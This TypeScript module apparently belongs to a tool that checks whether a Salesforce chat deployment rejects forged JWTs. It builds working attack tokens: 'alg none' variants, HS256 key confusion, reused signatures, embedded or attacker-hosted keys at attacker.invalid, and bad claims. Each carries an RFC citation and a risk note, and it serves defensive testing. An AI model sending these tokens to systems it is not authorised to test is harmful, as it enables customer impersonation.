import { constants, createHmac, createPublicKey, sign, verify, type KeyObject } from 'node:crypto';
import type { ExpectedToken } from '../explain';
import { encodeBase64url, signingAlgorithm } from '../token';
import type { Attacker } from './attacker';

type Members = Readonly<Record<string, unknown>>;

/** The values that forged tokens are built from. */
export interface ForgeInput {
  readonly expected: ExpectedToken;
  readonly sub: string;
  readonly now: Date;
  readonly attacker: Attacker;
  /** The private key of the expected key, if `--private-key` provides it. */
  readonly trustedKey?: KeyObject | undefined;
  /** A token that the org accepts. */
  readonly validToken?: string | undefined;
  /** The kid of a key that the org has and the channel doesn't trust. */
  readonly foreignKid?: string | undefined;
}

/** A token with one defect. */
export interface ForgedToken {
  readonly name: string;
  /** The consequence if the org accepts it. */
  readonly risk: string;
  /** The source that makes every correct verifier reject it. */
  readonly rule: string;
  /** Set if no source says that Salesforce checks this. `--tolerate` can then accept it. */
  readonly isUndocumented?: true;
  /** The input without which the token can't be built. An untrusted signature would be a second defect. */
  readonly needs?: 'trusted key' | 'valid token' | 'foreign kid';
  /** Set if the token is sent to every chat deployment, not only to one for each keyset. */
  readonly isBasic?: true;
  readonly forge: (input: ForgeInput) => string;
  /** The content that a trusted key signs; only for a token that needs one. */
  readonly toSign?: (input: ForgeInput) => SigningInput;
}

/** The encoded header and claims of a token, and the algorithm in its header. */
export interface SigningInput {
  readonly text: string;
  readonly alg: string;
}

const LIFETIME_SECONDS = 60;
const HOUR_SECONDS = 3600;

const IMPERSONATION_RISK = 'Anyone who can reach the Enhanced Chat API can chat as any customer.';
const HEADER_KEY_RISK = `The key in the header of a token is trusted. ${IMPERSONATION_RISK}`;
const SALESFORCE_ALGORITHMS = 'Salesforce Help, set up user verification: RS256 or RS512';
const KID_RULE = 'Salesforce Help, troubleshooting: the kid of the token names its key';

const headerFor = ({ expected: { key } }: ForgeInput, change: Members = {}): Members => ({
  alg: signingAlgorithm(key?.alg),
  kid: key?.kid ?? 'unknown',
  typ: 'JWT',
  ...change,
});

function claimsFor({ expected, sub, now }: ForgeInput, change: Members = {}): Members {
  const iat = Math.floor(now.getTime() / 1000);
  return { iss: expected.issuer, sub, iat, exp: iat + LIFETIME_SECONDS, ...change };
}

interface SignatureScheme {
  readonly digest: string;
  readonly padding: number;
}

const { RSA_PKCS1_PADDING, RSA_PKCS1_PSS_PADDING } = constants;

const SCHEMES: ReadonlyMap<string, SignatureScheme> = new Map([
  ['RS256', { digest: 'sha256', padding: RSA_PKCS1_PADDING }],
  ['RS384', { digest: 'sha384', padding: RSA_PKCS1_PADDING }],
  ['RS512', { digest: 'sha512', padding: RSA_PKCS1_PADDING }],
  ['PS256', { digest: 'sha256', padding: RSA_PKCS1_PSS_PADDING }],
]);

/** Signs with the algorithm in the header. */
function signInput({ text, alg }: SigningInput, key: KeyObject): string {
  const { digest, padding } = SCHEMES.get(alg) ?? { digest: 'sha256', padding: RSA_PKCS1_PADDING };
  return `${text}.${sign(digest, Buffer.from(text), { key, padding }).toString('base64url')}`;
}

/** Whether a token consists of a signing input and a signature that a public key made with the algorithm in the header. */
export function isSignedInput(token: string, { text, alg }: SigningInput, key: KeyObject | undefined): boolean {
  const { digest, padding } = SCHEMES.get(alg) ?? {};
  if (!key || digest === undefined || !token.startsWith(`${text}.`)) return false;
  const signature = Buffer.from(token.slice(text.length + 1), 'base64url');
  return verify(digest, Buffer.from(text), { key, ...(padding !== undefined && { padding }) }, signature);
}

interface Change {
  readonly header?: Members;
  readonly claims?: Members;
}

function signingInput(input: ForgeInput, { header, claims }: Change): SigningInput {
  const members = headerFor(input, header);
  return {
    text: `${encodeBase64url(members)}.${encodeBase64url(claimsFor(input, claims))}`,
    alg: String(members['alg']),
  };
}

const signWith = (key: KeyObject, input: ForgeInput, change: Change): string =>
  signInput(signingInput(input, change), key);

/** A token that is signed with a key of the attacker. */
const attack =
  (change: (input: ForgeInput) => Change = () => ({})) =>
  (input: ForgeInput): string =>
    signWith(input.attacker.privateKey, input, change(input));

/** A token that is signed with the key that the org trusts, or with the attacker's if that isn't available. */
const signed =
  (change: (input: ForgeInput) => Change) =>
  (input: ForgeInput): string =>
    signWith(input.trustedKey ?? input.attacker.privateKey, input, change(input));

const unsigned =
  (header: Members) =>
  (input: ForgeInput): string =>
    `${encodeBase64url(headerFor(input, header))}.${encodeBase64url(claimsFor(input))}.`;

const unsignedToken = (name: string, header: Members, rule: string): ForgedToken => ({
  name,
  rule,
  risk: `Tokens need no signature. ${IMPERSONATION_RISK}`,
  forge: unsigned(header),
});

const UNSECURED_RULE = 'RFC 8725, section 3.2';
const ALG_RULE = 'RFC 7515, section 4.1.1';

const UNSIGNED_TOKENS: readonly ForgedToken[] = [
  { ...unsignedToken('alg none', { alg: 'none' }, UNSECURED_RULE), isBasic: true },
  unsignedToken('alg None', { alg: 'None' }, UNSECURED_RULE),
  unsignedToken('alg NONE', { alg: 'NONE' }, UNSECURED_RULE),
  unsignedToken('alg nOnE', { alg: 'nOnE' }, UNSECURED_RULE),
  unsignedToken('alg missing', { alg: undefined }, ALG_RULE),
  unsignedToken('alg empty', { alg: '' }, ALG_RULE),
  unsignedToken('alg array', { alg: ['none'] }, ALG_RULE),
  unsignedToken('no signature', {}, 'RFC 7515, section 5.2'),
];

/** Uses the public key as the shared secret, which every attacker knows. Verifiers keep a key as PEM or as DER. */
const hmacToken =
  (format: 'pem' | 'der') =>
  (input: ForgeInput): string => {
    const key = input.expected.key?.publicKey ?? createPublicKey(input.attacker.privateKey);
    const text = unsigned({ alg: 'HS256' })(input).slice(0, -1);
    const secret =
      format === 'pem' ? key.export({ type: 'spki', format: 'pem' }) : key.export({ type: 'spki', format: 'der' });
    return `${text}.${createHmac('sha256', secret).update(text).digest('base64url')}`;
  };

const hmac = {
  rule: 'RFC 8725, section 3.1',
  risk: `The public key is used as a shared secret. ${IMPERSONATION_RISK}`,
};

/** The signature of a valid token with other claims. */
function withOtherClaims(input: ForgeInput): string {
  const [header = '', , signature = ''] = (input.validToken ?? '').split('.');
  return `${header}.${encodeBase64url(claimsFor(input, { jti: 'forged' }))}.${signature}`;
}

const SIGNATURE_TOKENS: readonly ForgedToken[] = [
  {
    name: 'known kid, wrong key',
    rule: 'RFC 7515, section 5.2',
    isBasic: true,
    risk: `Signatures are not verified. ${IMPERSONATION_RISK}`,
    forge: attack(),
  },
  {
    name: 'signature of another token',
    rule: 'RFC 7515, section 5.2',
    needs: 'valid token',
    risk: 'A signature is valid for any content. A customer can chat as any other customer.',
    forge: withOtherClaims,
  },
  { ...hmac, name: 'HS256', forge: hmacToken('pem') },
  { ...hmac, name: 'HS256 (DER)', forge: hmacToken('der') },
  {
    name: 'unknown kid',
    rule: KID_RULE,
    risk: `The kid isn't checked, so an unknown key can sign tokens. ${IMPERSONATION_RISK}`,
    forge: signed(() => ({ header: { kid: 'no-such-key' } })),
  },
  {
    name: 'missing kid',
    rule: KID_RULE,
    risk: `The kid isn't checked, so an unknown key can sign tokens. ${IMPERSONATION_RISK}`,
    forge: signed(() => ({ header: { kid: undefined } })),
  },
  {
    name: 'foreign kid',
    rule: KID_RULE,
    needs: 'foreign kid',
    risk: "The kid of a key outside the channel's keysets is accepted, so a removed key stays trusted.",
    forge: signed(({ foreignKid }) => ({ header: { kid: foreignKid } })),
  },
];

const headerKeyToken = (name: string, rule: string, header: (attacker: Attacker) => Members): ForgedToken => ({
  name,
  rule,
  risk: HEADER_KEY_RISK,
  forge: attack(({ attacker }) => ({ header: header(attacker) })),
});

const KEY_ORIGIN_RULE = 'RFC 7515, section 10.3';
const KEY_URL_RULE = 'RFC 8725, section 3.10';

/** Nobody serves the URLs, so a rejection doesn't show whether an org downloads a key from them. */
const HEADER_KEY_TOKENS: readonly ForgedToken[] = [
  headerKeyToken('embedded jwk', KEY_ORIGIN_RULE, ({ privateKey }) => ({
    jwk: { ...createPublicKey(privateKey).export({ format: 'jwk' }), use: 'sig', alg: 'RS256' },
  })),
  headerKeyToken('embedded x5c', KEY_ORIGIN_RULE, ({ certificate }) => ({ x5c: [certificate] })),
  headerKeyToken('jku', KEY_URL_RULE, () => ({ jku: 'https://attacker.invalid/jwks.json' })),
  headerKeyToken('x5u', KEY_URL_RULE, () => ({ x5u: 'https://attacker.invalid/key.pem' })),
];

/** A token that only its signer could send: signed with the trusted key. */
const trustedToken = (
  name: string,
  { rule, risk }: Pick<ForgedToken, 'rule' | 'risk'>,
  toSign: (input: ForgeInput) => SigningInput,
): ForgedToken => ({
  name,
  rule,
  risk,
  needs: 'trusted key',
  toSign,
  forge: (input) => signInput(toSign(input), input.trustedKey ?? input.attacker.privateKey),
});

/** A change of the header or the claims of a valid token. */
const changed =
  (change: (input: ForgeInput) => Change) =>
  (input: ForgeInput): SigningInput =>
    signingInput(input, change(input));

const ALGORITHM_RISK = 'An algorithm that Salesforce excludes is accepted.';
const ISSUER_RISK = "The issuer isn't compared byte for byte, so tokens for another system can be accepted.";
const SUBJECT_RISK = 'A token that names no customer is accepted, so different customers can share a conversation.';
const DUPLICATE_RISK =
  'The first of two members is used, and most token services and gateways use the last one, so they see different tokens.';
const DUPLICATE_RULE = 'RFC 7515, section 4, and RFC 7519, section 4: reject duplicates, or use the last one';

/** The most frequent typing error of an issuer: an additional or missing slash. */
const toggleTrailingSlash = (issuer: string): string => (issuer.endsWith('/') ? issuer.slice(0, -1) : `${issuer}/`);

const secondsAt = ({ now }: ForgeInput, offset: number): number => Math.floor(now.getTime() / 1000) + offset;

const ALGORITHM_TOKENS: readonly ForgedToken[] = ['RS384', 'PS256'].map((alg) =>
  trustedToken(
    alg,
    { rule: SALESFORCE_ALGORITHMS, risk: ALGORITHM_RISK },
    changed(() => ({ header: { alg } })),
  ),
);

const CLAIM_TOKENS: readonly ForgedToken[] = [
  trustedToken(
    'another issuer',
    { rule: 'RFC 8725, section 3.8', risk: ISSUER_RISK },
    changed(() => ({
      claims: { iss: 'https://issuer.invalid' },
    })),
  ),
  {
    ...trustedToken(
      'issuer slash mismatch',
      { rule: 'RFC 7519, section 2: issuers are compared as case-sensitive strings', risk: ISSUER_RISK },
      changed(({ expected }) => ({ claims: { iss: toggleTrailingSlash(expected.issuer) } })),
    ),
    isUndocumented: true,
  },
  trustedToken(
    'no issuer',
    { rule: 'RFC 8725, section 3.8', risk: ISSUER_RISK },
    changed(() => ({
      claims: { iss: undefined },
    })),
  ),
  {
    ...trustedToken(
      'no exp',
      { rule: 'public setup guides', risk: 'A copied token works forever.' },
      changed(() => ({
        claims: { exp: undefined },
      })),
    ),
    isUndocumented: true,
  },
  trustedToken(
    'expired',
    { rule: 'RFC 7519, section 4.1.4', risk: 'A copied token works forever.' },
    changed((input) => ({
      claims: { iat: secondsAt(input, -HOUR_SECONDS), exp: secondsAt(input, LIFETIME_SECONDS - HOUR_SECONDS) },
    })),
  ),
  {
    ...trustedToken(
      'not yet valid',
      { rule: 'RFC 7519, section 4.1.5', risk: 'A token works before the time in nbf.' },
      changed((input) => ({
        claims: { nbf: secondsAt(input, HOUR_SECONDS), exp: secondsAt(input, HOUR_SECONDS + LIFETIME_SECONDS) },
      })),
    ),
    isUndocumented: true,
  },
  trustedToken(
    'no sub',
    { rule: 'RFC 8725, section 3.8', risk: SUBJECT_RISK },
    changed(() => ({
      claims: { sub: undefined },
    })),
  ),
  trustedToken(
    'empty sub',
    { rule: 'RFC 8725, section 3.8', risk: SUBJECT_RISK },
    changed(() => ({ claims: { sub: '' } })),
  ),
];

/** Adds a member to the JSON of an object, although the object may have it. */
const addMember = (object: Members, name: string, value: string): string =>
  Buffer.from(`${JSON.stringify(object).slice(0, -1)},${JSON.stringify(name)}:${JSON.stringify(value)}}`).toString(
    'base64url',
  );

const SYNTAX_TOKENS: readonly ForgedToken[] = [
  {
    ...trustedToken(
      'crit',
      { rule: 'RFC 7515, section 4.1.11', risk: 'An extension that the org does not know is ignored.' },
      changed(() => ({ header: { crit: ['unknown-extension'], 'unknown-extension': true } })),
    ),
    isUndocumented: true,
  },
  {
    ...trustedToken('duplicate kid', { rule: DUPLICATE_RULE, risk: DUPLICATE_RISK }, (input) => {
      const header = headerFor(input);
      const text = `${addMember(header, 'kid', 'no-such-key')}.${encodeBase64url(claimsFor(input))}`;
      return { text, alg: String(header['alg']) };
    }),
    isUndocumented: true,
  },
  {
    ...trustedToken('duplicate iss', { rule: DUPLICATE_RULE, risk: DUPLICATE_RISK }, (input) => {
      const header = headerFor(input);
      const text = `${encodeBase64url(header)}.${addMember(claimsFor(input), 'iss', 'https://issuer.invalid')}`;
      return { text, alg: String(header['alg']) };
    }),
    isUndocumented: true,
  },
];

/** The forged tokens, the most dangerous first. */
export const FORGED_TOKENS: readonly ForgedToken[] = [
  ...UNSIGNED_TOKENS,
  ...SIGNATURE_TOKENS,
  ...HEADER_KEY_TOKENS,
  ...ALGORITHM_TOKENS,
  ...CLAIM_TOKENS,
  ...SYNTAX_TOKENS,
];

/** Signs a valid token with a key that the channel must not trust. */
export const signWithRejectedKey = (input: ForgeInput, key: KeyObject, kid: string, alg: string | undefined): string =>
  signWith(key, input, { header: { alg: signingAlgorithm(alg), kid } });
